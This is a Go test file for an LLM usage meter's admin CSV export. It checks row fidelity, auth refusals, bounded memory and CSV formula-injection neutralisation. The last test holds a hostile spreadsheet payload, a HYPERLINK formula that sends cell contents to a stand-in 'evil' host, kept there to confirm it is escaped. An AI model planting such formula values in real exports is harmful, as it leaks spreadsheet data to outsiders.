package adminapi_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"sync/atomic"
	"testing"
	"time"

	"github.com/rs/zerolog"

	"llmmeter/internal/adminapi"
	"llmmeter/internal/auth"
	"llmmeter/internal/money"
	"llmmeter/internal/store"
	"llmmeter/internal/store/sqlitestore"
)

// tokenAuth maps bearer tokens to principals (a double used only here).
type tokenAuth map[string]auth.Principal

func (a tokenAuth) Authenticate(_ context.Context, r *http.Request) (auth.Principal, error) {
	tok, _ := auth.Bearer(r)
	if p, ok := a[tok]; ok {
		return p, nil
	}
	return auth.Principal{}, auth.ErrInvalid
}

var creds = tokenAuth{
	"llm_admin": {UserID: "admin", IsAdmin: true, Method: "api_key"},
	"llm_user":  {UserID: "someone", Method: "api_key"},
}

const (
	keySvc    = "k_00000000000000a1"
	keyLaptop = "k_00000000000000b2"
)

// seedLogs ingests n request logs through the store's real ingest path:
// three users, two API keys, conversations of ten calls, one failure in
// seven, and a usage row (tokens, exact cost) for each success.
func seedLogs(t testing.TB, st *sqlitestore.Store, n int) []string {
	ctx := context.Background()
	var users []string
	for i := range 3 {
		u, _, err := st.EnsureUser(ctx, store.EnsureUserInput{ExternalID: fmt.Sprintf("ext-%d", i), Name: fmt.Sprintf("User %d", i)})
		if err != nil {
			t.Fatal(err)
		}
		users = append(users, u.ID)
	}
	start := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC).UnixMilli()
	const per = 2000
	for lo := 0; lo < n; lo += per {
		var b store.Batch
		for i := lo; i < min(lo+per, n); i++ {
			l := store.RequestLog{RequestID: fmt.Sprintf("req-%07d", i), UserID: users[i%3], RequestType: "chat_completion",
				Method: "POST", Endpoint: "/api/v1/chat/completions", Model: []string{"openai/gpt-4o", "anthropic/claude-3.5-sonnet"}[i%2],
				Status: store.StatusSuccess, StatusCode: 200, RequestSize: 100 + int64(i%50), ResponseSize: 2000, ProcessingTime: int64(200 + i%900),
				TimeToFirstToken: 120, UserAgent: `agent "quoted", with comma`, Timestamp: start + int64(i)*1000,
				ConversationID: fmt.Sprintf("conv-%d", i/10)}
			if i%4 != 0 {
				l.APIKeyID = []string{keySvc, keyLaptop}[i%2]
			}
			if i%7 == 0 {
				l.Status, l.StatusCode, l.ErrorType, l.ErrorMessage = store.StatusError, 502, "upstream_error", "line one\nline two"
			} else {
				l.GenerationID = fmt.Sprintf("gen-%07d", i)
				b.Usage = append(b.Usage, store.Usage{GenerationID: l.GenerationID, RequestID: l.RequestID, UserID: l.UserID, APIKeyID: l.APIKeyID,
					Model: l.Model, PromptTokens: int64(i % 3000), CompletionTokens: 17, TotalTokens: int64(i%3000) + 17,
					Cost: money.Nanos(1_000_000_007 * int64(i%5)), CostStatus: store.CostReported, Timestamp: l.Timestamp, ProcessingTime: l.ProcessingTime})
			}
			b.RequestLogs = append(b.RequestLogs, l)
		}
		if _, err := st.Ingest(ctx, b); err != nil {
			t.Fatal(err)
		}
	}
	return users
}

func openStore(t testing.TB) *sqlitestore.Store {
	st, err := sqlitestore.Open(context.Background(), filepath.Join(t.TempDir(), "export.db"), time.UTC)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	return st
}

func post(t testing.TB, url, token, body string) *http.Response {
	req, _ := http.NewRequest(http.MethodPost, url, bytes.NewBufferString(body))
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	return resp
}

// adminRows pages llmmeter:requestLogs through /api/query, as the portal does.
func adminRows(t testing.TB, base string, args map[string]any) []map[string]any {
	var rows []map[string]any
	var cursor any
	for {
		a := map[string]any{"paginationOpts": map[string]any{"numItems": 50, "cursor": cursor}, "withUsage": true}
		for k, v := range args {
			a[k] = v
		}
		body, _ := json.Marshal(map[string]any{"path": "llmmeter:requestLogs", "args": a, "format": "json"})
		resp := post(t, base+"/api/query", "llm_admin", string(body))
		var out struct {
			Status string
			Value  struct {
				Page           []map[string]any
				IsDone         bool
				ContinueCursor string
			}
		}
		dec := json.NewDecoder(resp.Body)
		dec.UseNumber()
		if err := dec.Decode(&out); err != nil || out.Status != "success" {
			t.Fatalf("requestLogs: %v %+v", err, out)
		}
		resp.Body.Close()
		rows = append(rows, out.Value.Page...)
		if out.Value.IsDone {
			return rows
		}
		cursor = out.Value.ContinueCursor
	}
}

// exportCSV posts an export and parses the whole CSV.
func exportCSV(t testing.TB, base string, args map[string]any) ([][]string, http.Header) {
	body, _ := json.Marshal(map[string]any{"args": args})
	resp := post(t, base+"/api/export/requestLogs", "llm_admin", string(body))
	defer resp.Body.Close()
	if resp.StatusCode != 200 {
		b, _ := io.ReadAll(resp.Body)
		t.Fatalf("export: %d %s", resp.StatusCode, b)
	}
	recs, err := csv.NewReader(resp.Body).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return recs, resp.Trailer
}

func server(t testing.TB, st *sqlitestore.Store) string {
	srv := httptest.NewServer(adminapi.Handler(adminapi.Options{Functions: st, Auth: creds, Log: zerolog.Nop()}))
	t.Cleanup(srv.Close)
	return srv.URL
}

// TestExportEqualsAdminRows: the CSV of a filtered view holds exactly the
// rows llmmeter:requestLogs pages through for the same filters, in the same
// order, each field read back to the row's value.
func TestExportEqualsAdminRows(t *testing.T) {
	st := openStore(t)
	users := seedLogs(t, st, 2345)
	base := server(t, st)
	from := time.Date(2026, 11, 1, 0, 5, 0, 0, time.UTC).UnixMilli()
	views := []struct {
		name string
		args map[string]any
	}{
		{"everything", map[string]any{}},
		{"a key and a status", map[string]any{"apiKeyId": keySvc, "status": "success"}},
		{"a user, a model and a time range", map[string]any{"userId": users[1], "modelSlug": "openai/gpt-4o", "from": from, "to": from + 600_000}},
		{"a key and a user (outside the key's index)", map[string]any{"apiKeyId": keyLaptop, "userId": users[2]}},
		{"a conversation", map[string]any{"conversationId": "conv-17"}},
		{"a generation id", map[string]any{"generationId": "gen-0000100"}},
		{"no match", map[string]any{"requestId": "nope"}},
	}
	col := map[string]int{}
	for i, c := range adminapi.RequestLogColumns {
		col[c] = i
	}
	for _, v := range views {
		t.Run(v.name, func(t *testing.T) {
			want := adminRows(t, base, v.args)
			recs, trailer := exportCSV(t, base, v.args)
			if len(recs) == 0 || fmt.Sprint(recs[0]) != fmt.Sprint(adminapi.RequestLogColumns) {
				t.Fatalf("header = %v", recs)
			}
			got := recs[1:]
			if len(got) != len(want) {
				t.Fatalf("%d CSV rows, %d admin rows", len(got), len(want))
			}
			if trailer.Get("X-Llmmeter-Export-Rows") != strconv.Itoa(len(want)) || trailer.Get("X-Llmmeter-Export-Truncated") != "false" {
				t.Errorf("trailer = %v", trailer)
			}
			for i, rec := range got {
				row := want[i]
				field := func(m map[string]any, k string) string {
					if x, ok := m[k]; ok {
						return fmt.Sprint(x)
					}
					return ""
				}
				for _, k := range []string{"requestId", "status", "statusCode", "userId", "apiKeyId", "conversationId", "model", "generationId",
					"errorType", "errorMessage", "userAgent", "endpoint"} {
					if rec[col[k]] != field(row, k) {
						t.Fatalf("row %d %s: CSV %q, admin %q", i, k, rec[col[k]], field(row, k))
					}
				}
				if rec[col["processingTimeMs"]] != field(row, "processingTime") {
					t.Fatalf("row %d processingTime: %q vs %q", i, rec[col["processingTimeMs"]], field(row, "processingTime"))
				}
				ts, err := time.Parse(time.RFC3339Nano, rec[col["time"]])
				if err != nil || strconv.FormatInt(ts.UnixMilli(), 10) != field(row, "timestamp") {
					t.Fatalf("row %d time %q, timestamp %s", i, rec[col["time"]], field(row, "timestamp"))
				}
				usage, _ := row["usage"].(map[string]any)
				if rec[col["totalTokens"]] != field(usage, "totalTokens") || rec[col["costStatus"]] != field(usage, "costStatus") {
					t.Fatalf("row %d usage %v, CSV %v", i, usage, rec)
				}
				if usage != nil {
					n, err := money.ParseUSD(rec[col["costUsd"]])
					if err != nil || strconv.FormatInt(int64(n), 10) != field(usage, "costNanoUsd") {
						t.Fatalf("row %d cost %q, nanos %s", i, rec[col["costUsd"]], field(usage, "costNanoUsd"))
					}
				} else if rec[col["costUsd"]] != "" {
					t.Fatalf("row %d has a cost without a usage row", i)
				}
			}
		})
	}
}

// TestExportRefusals: bad filters, anonymous and non-admin callers are
// refused before any CSV, with a 4xx a browser can tell apart.
func TestExportRefusals(t *testing.T) {
	st := openStore(t)
	seedLogs(t, st, 10)
	base := server(t, st)
	tests := []struct {
		name, token, body string
		status            int
		code              string
	}{
		// The function's own checks, through the export.
		{"anonymous", "", `{"args":{}}`, 401, "unauthenticated"},
		{"not an admin", "llm_user", `{"args":{}}`, 403, "forbidden"},
		{"bad credential", "llm_nope", `{"args":{}}`, 401, "Unauthenticated"},
		{"a filter of the wrong type", "llm_admin", `{"args":{"status":"maybe"}}`, 400, "bad_request"},
		{"an empty conversation id", "llm_admin", `{"args":{"conversationId":""}}`, 400, "bad_request"},
		{"from after to", "llm_admin", `{"args":{"from":2,"to":1}}`, 400, "bad_request"},
		// The export's own.
		{"pagination is the export's", "llm_admin", `{"args":{"paginationOpts":{"numItems":1,"cursor":null}}}`, 400, "BadRequest"},
		{"not JSON", "llm_admin", `{"args":`, 400, "BadRequest"},
		{"a filter outside args", "llm_admin", `{"model":"openai/gpt-4o","args":{}}`, 400, "BadRequest"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			resp := post(t, base+"/api/export/requestLogs", tc.token, tc.body)
			defer resp.Body.Close()
			var out struct{ Code string }
			json.NewDecoder(resp.Body).Decode(&out)
			if resp.StatusCode != tc.status || out.Code != tc.code || resp.Header.Get("Content-Type") != "application/json" {
				t.Errorf("%d %q %s, want %d %q", resp.StatusCode, out.Code, resp.Header.Get("Content-Type"), tc.status, tc.code)
			}
		})
	}
	resp, _ := http.Get(base + "/api/export/requestLogs")
	resp.Body.Close()
	if resp.StatusCode != http.StatusMethodNotAllowed {
		t.Errorf("GET: %d", resp.StatusCode)
	}
}

// TestExportBoundedMemory streams an export of $LLMMETER_EXPORT_ROWS rows
// (default 5,000; 1,000,000 with `make bench-explorer`) while sampling the
// heap: the peak stays under a bound that no whole-file buffer of that
// size would fit in, and every row arrives.
func TestExportBoundedMemory(t *testing.T) {
	n := 5_000
	if s := os.Getenv("LLMMETER_EXPORT_ROWS"); s != "" {
		var err error
		if n, err = strconv.Atoi(s); err != nil || n < 1 || n > adminapi.ExportMaxRows {
			t.Fatalf("LLMMETER_EXPORT_ROWS=%q", s)
		}
	}
	st := openStore(t)
	t0 := time.Now()
	seedLogs(t, st, n)
	t.Logf("seeded %d rows in %s", n, time.Since(t0).Round(time.Millisecond))
	base := server(t, st)
	runtime.GC()
	var before runtime.MemStats
	runtime.ReadMemStats(&before)
	var peak atomic.Uint64
	stop := make(chan struct{})
	sampled := make(chan struct{})
	go func() {
		defer close(sampled)
		tick := time.NewTicker(5 * time.Millisecond)
		defer tick.Stop()
		for {
			var m runtime.MemStats
			runtime.ReadMemStats(&m)
			if m.HeapAlloc > peak.Load() {
				peak.Store(m.HeapAlloc)
			}
			select {
			case <-stop:
				return
			case <-tick.C:
			}
		}
	}()
	t1 := time.Now()
	resp := post(t, base+"/api/export/requestLogs", "llm_admin", `{"args":{}}`)
	r := csv.NewReader(resp.Body)
	r.ReuseRecord = true
	rows, bytesIn := -1, int64(0)
	for {
		rec, err := r.Read()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		rows++
		for _, f := range rec {
			bytesIn += int64(len(f)) + 1
		}
	}
	resp.Body.Close()
	close(stop)
	<-sampled
	grew := int64(peak.Load()) - int64(before.HeapAlloc)
	t.Logf("exported %d rows (~%d MB of fields) in %s; heap peak %d MB above the start",
		rows, bytesIn>>20, time.Since(t1).Round(time.Millisecond), grew>>20)
	if rows != n {
		t.Fatalf("%d rows exported, %d stored", rows, n)
	}
	// The service and the client share this heap: a page of 200 rows in
	// each is well under a megabyte; 32 MB leaves room for the GC's lag.
	if grew > 32<<20 {
		t.Errorf("heap grew by %d MB while exporting", grew>>20)
	}
}

// TestExportFormulaCells: text a caller chose (conversation and message
// ids, model, user agent, error type and message) reaches the export with
// a leading ' when it begins with = + - @ tab or CR, so a spreadsheet shows
// it instead of running it; the numbers beside it stay numbers.
func TestExportFormulaCells(t *testing.T) {
	st := openStore(t)
	ctx := context.Background()
	u, _, err := st.EnsureUser(ctx, store.EnsureUserInput{ExternalID: "ext-evil", Name: "Eve"})
	if err != nil {
		t.Fatal(err)
	}
	hostile := `=HYPERLINK("http://evil/?"&A1,"x")`
	l := store.RequestLog{RequestID: "req-evil", UserID: u.ID, RequestType: "chat_completion", Method: "POST",
		Endpoint: "/api/v1/chat/completions", Model: "+evil/model", Status: store.StatusError, StatusCode: 502,
		ErrorType: "@upstream", ErrorMessage: "-1+1", UserAgent: "\t=1", ConversationID: hostile, MessageID: "\r=2",
		RequestSize: 10, ResponseSize: 20, ProcessingTime: 30, Timestamp: time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC).UnixMilli()}
	if _, err := st.Ingest(ctx, store.Batch{RequestLogs: []store.RequestLog{l}}); err != nil {
		t.Fatal(err)
	}
	resp := post(t, server(t, st)+"/api/export/requestLogs", "llm_admin", `{"args": {}}`)
	defer resp.Body.Close()
	raw, err := io.ReadAll(resp.Body)
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("export: %d %v %s", resp.StatusCode, err, raw)
	}
	// Quoted as CSV quotes it, with the ' inside the quotes.
	if !bytes.Contains(raw, []byte(`,"'=HYPERLINK(""http://evil/?""&A1,""x"")",`)) {
		t.Errorf("conversation id not neutralised:\n%s", raw)
	}
	recs, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("%v %q", err, recs)
	}
	got := map[string]string{}
	for i, c := range adminapi.RequestLogColumns {
		got[c] = recs[1][i]
	}
	want := map[string]string{"conversationId": "'" + hostile, "messageId": "'\r=2", "model": "'+evil/model", "errorType": "'@upstream",
		"errorMessage": "'-1+1", "userAgent": "'\t=1", "requestId": "req-evil", "statusCode": "502", "requestSize": "10",
		"responseSize": "20", "processingTimeMs": "30"}
	for k, v := range want {
		if got[k] != v {
			t.Errorf("%s = %q, want %q", k, got[k], v)
		}
	}
}
